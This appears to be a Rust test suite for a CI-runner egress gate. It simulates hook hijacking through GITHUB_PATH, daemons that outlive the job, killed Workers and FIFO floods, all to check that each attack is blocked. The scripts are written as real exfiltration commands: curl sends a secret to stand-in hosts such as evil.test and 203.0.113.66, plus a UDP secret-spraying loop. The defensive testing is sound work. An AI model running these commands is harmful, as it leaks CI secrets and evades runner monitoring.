//! Attacks that go through the hooks and the runner's life cycle: nothing that is enforced depends on a hook.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, EXFILTRATE, Gate, Puppet, assert_gapless, assert_nothing_left, blocked_by, call,
    detections, has_stage, job_groups, network, our_tables, wait_gone,
};
use nix::sys::signal::Signal;
use portcullis_common::event::{DetectionType, EventKind, JobStage, RecordedDetection, Verdict};
use portcullis_tests::job::StepKind;
use portcullis_tests::{Job, JobOutcome, World, wait_until};

/// Allows the attacker; for another repository.
const GENEROUS: &str = "
name: generous
egress-policy: audit
attach:
  - repository: octo/generous
";

fn gate() -> Result<Gate> {
    Gate::up(World::builder().build()?, &[("block", BLOCK), ("generous", GENEROUS)])
}

/// H1: the completed hook's interpreter is replaced through `GITHUB_PATH`; and its twin, a step that adds a directory.
#[test]
fn a_hijacked_completed_hook_changes_nothing() -> Result<()> {
    let gate = gate()?;
    for shadowed in ["bash", "sudo", "curl"] {
        let script = format!(
            r#"
            mkdir -p "$RUNNER_TEMP/fake"
            cat >"$RUNNER_TEMP/fake/{shadowed}" <<END
#!/bin/sh
echo hijacked
/usr/bin/curl -sSk --max-time 3 https://203.0.113.66/$S
/usr/bin/curl -sS --max-time 3 https://evil.test/$S
exit 0
END
            chmod +x "$RUNNER_TEMP/fake/{shadowed}"
            echo "$RUNNER_TEMP/fake" >>"$GITHUB_PATH"
            "#
        );
        let result = gate.run(&gate.job(&script).step(&call("ok.test")))?;
        let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
        let is_hijacked = hook.log.contains("hijacked");
        assert_eq!(is_hijacked, shadowed == "bash", "{}", result.log());
        if shadowed != "curl" {
            gate.assert_contained(&result)?;
        }
        let events = gate.last_events()?;
        assert_gapless(&events);
        if is_hijacked {
            assert!(blocked_by(&events, "203.0.113.66", 443, "curl"), "{events:#?}");
            assert!(!has_stage(&events, JobStage::ReportRequested));
            let report = gate.last_report()?;
            assert!(report.blocked > 0, "{report:#?}");
        }
        assert!(has_stage(&events, JobStage::Ended));
        assert_nothing_left(&gate.world)?;
    }
    gate.world.attacker().assert_untouched(&gate.canary)
}

/// H2: the completed hook, run early and often; H3: the started hook again, with another workflow, from a Worker of the
/// job's own making. The twin: the same context again is no conflict.
#[test]
fn hooks_that_a_step_runs_change_nothing() -> Result<()> {
    let gate = gate()?;
    let bin = gate.world.root().join("opt/portcullis/bin");
    let socket = gate.world.socket();
    let hook = |name: &str| format!("{} --socket {}", bin.join(name).display(), socket.display());
    let (pre, post) = (hook("pre-job"), hook("post-job"));
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let tables = our_tables(&gate.world)?;

    // As it is, in a session of its own, as root.
    for how in ["", "setsid -w ", "sudo -E "] {
        let early = puppet.run(&format!("{how}{post}"))?;
        assert!(early.succeeded() && early.output.contains("posture"), "{early:?}");
    }
    let again = puppet.run(&pre)?;
    assert!(again.succeeded() && again.output.contains("policy hello-block"), "{again:?}");

    let elsewhere = "GITHUB_REPOSITORY=octo/generous GITHUB_REPOSITORY_OWNER=octo \
                     GITHUB_WORKFLOW_REF=octo/generous/.github/workflows/ci.yml@refs/heads/main";
    let other_file = "GITHUB_WORKFLOW_REF=octo/hello/.github/workflows/other.yml@refs/heads/main";
    for variables in [elsewhere, other_file] {
        let refused = puppet.run(&format!("{variables} {pre}"))?;
        assert_eq!(refused.status, 1, "{refused:?}");
        assert!(refused.output.contains("::error"), "{refused:?}");
        let detached = puppet.run(&format!("{variables} setsid -w {pre}"))?;
        assert_eq!(detached.status, 1, "{detached:?}");
    }
    // A Listener and a Worker of the job's own making, and one whose true ancestors are gone.
    let fake = puppet.run(&format!(
        r#"
        mkdir -p "$RUNNER_TEMP/fake"; cp /bin/bash "$RUNNER_TEMP/fake/Runner.Listener"; cp /bin/bash "$RUNNER_TEMP/fake/Runner.Worker"
        "$RUNNER_TEMP/fake/Runner.Listener" -c '"$RUNNER_TEMP/fake/Runner.Worker" -c "env {elsewhere} {pre}; echo status \$?"; true'
        setsid --fork "$RUNNER_TEMP/fake/Runner.Listener" -c '"$RUNNER_TEMP/fake/Runner.Worker" -c "env {elsewhere} {pre}; echo status \$?; touch $PUPPET/orphan"; true' >"$PUPPET/orphan.out" 2>&1
        until [ -e "$PUPPET/orphan" ]; do sleep 0.02; done
        cat "$PUPPET/orphan.out"
        "#
    ))?;
    assert_eq!(fake.output.matches("status 1").count(), 2, "{fake:?}");

    let attack = puppet.run(EXFILTRATE)?;
    assert_eq!(our_tables(&gate.world)?, tables, "{attack:?}");
    let twin = puppet.run(&call("ok.test"))?;
    assert!(twin.succeeded(), "{twin:?}");
    let status = gate.monitor.status()?;
    assert_eq!(status.jobs.len(), 1, "{status:?}");
    assert_eq!(status.jobs[0].policy, "hello-block");
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;

    let events = gate.last_events()?;
    assert_gapless(&events);
    let conflicts: Vec<_> = detections(&events)
        .filter(|event| {
            event.detection == DetectionType::Recorded(RecordedDetection::BindingConflict)
        })
        .collect();
    assert_eq!(conflicts.len(), 6, "{conflicts:#?}");
    for conflict in conflicts {
        let process = conflict.process.as_ref().context("nobody is named")?;
        assert!(process.exe.as_deref().is_some_and(|exe| exe.ends_with("pre-job")), "{process:?}");
        assert!(conflict.evidence.contains(".github/workflows/"), "{conflict:?}");
    }
    Ok(())
}

/// H4: daemons that hide from the runner's clean-up die with the job, before its rules go. The twin: what the job starts
/// in the background works for as long as the job runs.
#[test]
fn daemons_do_not_outlive_the_job() -> Result<()> {
    let gate = gate()?;
    // Each waits until the completed hook is over, and then sends.
    let daemon = r#"
        cat >"$RUNNER_TEMP/daemon.sh" <<'END'
echo $$ >>"$1"
trap '' HUP TERM INT
while :; do
    /usr/bin/curl -sSk --max-time 1 "https://203.0.113.66/$2"
    sleep 0.01
done
END
        pids="$GITHUB_WORKSPACE/pids"; rm -f "$pids"
        env -u RUNNER_TRACKING_ID setsid --fork bash "$RUNNER_TEMP/daemon.sh" "$pids" "$S" >/dev/null 2>&1
        env -i PATH="$PATH" nohup setsid --fork bash "$RUNNER_TEMP/daemon.sh" "$pids" "$S" >/dev/null 2>&1
        RUNNER_TRACKING_ID=other setsid --fork bash "$RUNNER_TEMP/daemon.sh" "$pids" "$S" >/dev/null 2>&1
        sudo env -i PATH="$PATH" setsid --fork bash "$RUNNER_TEMP/daemon.sh" "$pids" "$S" >/dev/null 2>&1
        until [ "$(wc -l <"$pids" 2>/dev/null || echo 0)" -ge 4 ]; do sleep 0.02; done
        python3 -m http.server --bind 127.0.0.1 8123 >/dev/null 2>&1 &
        until curl -sS -o /dev/null http://127.0.0.1:8123/; do sleep 0.05; done
        kill $!
        cat "$pids"
    "#;
    let result = gate.world.runner(0).run(&gate.job(daemon))?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    let step = result.step_of_kind(StepKind::Main).context("no step")?;
    let pids: Vec<u32> = step.log.lines().filter_map(|line| line.trim().parse().ok()).collect();
    assert_eq!(pids.len(), 4, "{}", step.log);
    for pid in pids {
        wait_gone(pid)?;
    }
    gate.assert_contained(&result)?;
    assert_nothing_left(&gate.world)?;
    let events = gate.last_events()?;
    // Their true parents are gone, so no ancestor is the Worker.
    let blocked = network(&events).any(|event| {
        event.verdict == Verdict::Blocked
            && event.address.to_string() == "203.0.113.66"
            && event
                .process
                .as_ref()
                .and_then(|process| process.exe.as_deref())
                .is_some_and(|exe| exe.ends_with("curl"))
    });
    assert!(blocked, "{events:#?}");
    let left_over = detections(&events)
        .filter(|event| {
            event.detection == DetectionType::Recorded(RecordedDetection::LeftOverProcess)
        })
        .count();
    assert!(left_over >= 4, "{events:#?}");
    Ok(())
}

/// H5: the Worker is killed, so that no completed hook runs. The twin: the next job on the runner.
#[test]
fn a_killed_worker_is_cleaned_up_after() -> Result<()> {
    let gate = gate()?;
    for signal in [Signal::SIGKILL, Signal::SIGABRT] {
        let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
        puppet.begin(&format!(
            "while :; do curl -sSk --max-time 1 https://203.0.113.66/$S; sleep 0.01; done & {}\n{}\nkill -{} $(ps -o ppid= -p $$); wait",
            call("ok.test"),
            // One attempt for sure before the end, however slow the machine is.
            "curl -sSk --max-time 1 https://203.0.113.66/$S || true",
            signal.as_str().trim_start_matches("SIG"),
        ))?;
        let result = puppet.job.wait()?;
        assert_eq!(result.outcome, JobOutcome::Failure);
        assert!(result.worker_exit_code > 128, "{result:?}");
        gate.monitor.wait_until_idle()?;
        assert_nothing_left(&gate.world)?;
        let events = gate.last_events()?;
        assert_gapless(&events);
        assert!(has_stage(&events, JobStage::Ended));
        assert!(blocked_by(&events, "203.0.113.66", 443, "curl"), "{events:#?}");
        assert!(gate.last_report()?.blocked > 0);
    }
    let result = gate.run(&gate.job(&call("ok.test")))?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)
}

/// H7: files that the hook writes are replaced by FIFOs and links, and a flood of events; the hook returns, and the
/// report is whole. The twin: a calm job's summary is written.
#[test]
fn floods_and_fifos_hold_nobody_up() -> Result<()> {
    let gate = gate()?;
    let bin = gate.world.root().join("opt/portcullis/bin/post-job");
    let script = format!(
        r#"
        # Whatever file a hook is given, a FIFO stands in its place.
        cat >"$RUNNER_TEMP/fifos.py" <<'END'
import glob, os
seen = set()
while True:
    for path in glob.glob(os.environ["RUNNER_TEMP"] + "/_runner_file_commands/*summary*"):
        try:
            if path not in seen and os.environ["GITHUB_STEP_SUMMARY"] != path:
                os.unlink(path); os.mkfifo(path); seen.add(path)
        except OSError:
            pass
END
        setsid --fork python3 "$RUNNER_TEMP/fifos.py" </dev/null >/dev/null 2>&1
        mkfifo "$RUNNER_TEMP/fifo"
        GITHUB_STEP_SUMMARY="$RUNNER_TEMP/fifo" GITHUB_EVENT_PATH="$RUNNER_TEMP/fifo" {bin} --socket {socket} && echo early report
        ln -s /etc/passwd "$RUNNER_TEMP/link"
        GITHUB_STEP_SUMMARY="$RUNNER_TEMP/link" {bin} --socket {socket} && echo early report
        # Requests of which each is an event of its own.
        for i in $(seq 100); do
            GITHUB_WORKFLOW_REF=octo/hello/.github/workflows/$i.yml@refs/heads/main {pre} --socket {socket} || true
            {bin} --socket {socket}
        done >/dev/null 2>&1
        python3 - <<'END'
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
secret = os.environ["S"].encode()
refused = 0
for port in range(60000):
    try:
        s.sendto(secret, ("203.0.113.66", port % 65535 + 1))
    except OSError:
        refused += 1
print("sent", refused)
END
        "#,
        bin = bin.display(),
        pre = gate.world.root().join("opt/portcullis/bin/pre-job").display(),
        socket = gate.world.socket().display(),
    );
    let result = gate.run(&gate.job(&script).step(&call("ok.test")))?;
    let step = result.step_of_kind(StepKind::Main).context("no step")?;
    assert_eq!(step.log.matches("early report").count(), 2, "{}", result.log());
    let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert!(hook.duration_ms < 20_000.0, "{}", hook.duration_ms);
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let report = gate.last_report()?;
    let shown: u64 = report.destinations.iter().map(|row| row.count).sum();
    assert!(report.blocked > 0 && shown > 0, "{report:#?}");
    // 60 000 rows don't fit into any report; what is missing is said.
    let is_told = report.destinations_left_out > 0
        || report.posture.warnings.iter().any(|warning| warning.contains("have no event"));
    assert!(is_told, "{:#?}", report.posture);
    let events = gate.last_events()?;
    assert_gapless(&events);
    let conflicts: Vec<_> = detections(&events)
        .filter(|event| {
            event.detection == DetectionType::Recorded(RecordedDetection::BindingConflict)
        })
        .collect();
    assert!((64..80).contains(&conflicts.len()), "{} conflicts", conflicts.len());
    let more = conflicts.iter().any(|event| event.evidence.contains("more like this; the last"));
    assert!(more, "{conflicts:#?}");
    let requests = events.iter().filter(|event| {
        matches!(&event.kind, EventKind::Job(job) if job.stage == JobStage::ReportRequested)
    });
    assert!((64..80).contains(&requests.count()));
    assert_nothing_left(&gate.world)?;

    let calm = gate.run(&gate.job(&call("ok.test")))?;
    assert!(calm.summary().contains("hello-block"), "{}", calm.summary());
    gate.assert_contained(&calm)
}

/// A Worker that is stopped, not killed, keeps its rules; a Listener that dies under a job changes nothing either.
#[test]
fn a_stopped_runner_keeps_its_rules() -> Result<()> {
    let gate = gate()?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    puppet.job.signal_worker(Signal::SIGSTOP)?;
    let attack = puppet.run(EXFILTRATE)?;
    assert_eq!(our_tables(&gate.world)?.len(), 2, "{attack:?}");
    assert_eq!(job_groups(gate.world.runner(0)).len(), 1);
    puppet.job.signal_worker(Signal::SIGCONT)?;
    let twin = puppet.run(&call("ok.test"))?;
    assert!(twin.succeeded(), "{twin:?}");
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)
}

/// No gate: every one of these attacks arrives, so that the tests above can fail.
#[test]
fn without_a_gate_the_attacks_arrive() -> Result<()> {
    let world = World::builder().build()?;
    let canary = portcullis_tests::Canary::generate()?;
    let result = world.runner(0).run(&Job::script(EXFILTRATE).secret("S", canary.as_str()))?;
    assert!(world.attacker().saw(&canary)?, "{}", result.log());
    let packets = world.attacker().described_packets();
    for (protocol, is_ipv6) in [(6, false), (6, true), (17, false), (17, true)] {
        let arrived = packets
            .iter()
            .any(|packet| packet.protocol == protocol && packet.destination.is_ipv6() == is_ipv6);
        assert!(arrived, "protocol {protocol}, IPv6 {is_ipv6}: {packets:#?}\n{}", result.log());
    }
    wait_until("the attacker's name server to be asked for the secret", || {
        let queries = world.attacker().dns().queries();
        queries.iter().any(|query| query.name.to_ascii_lowercase().contains(canary.as_str()))
    })?;
    Ok(())
}
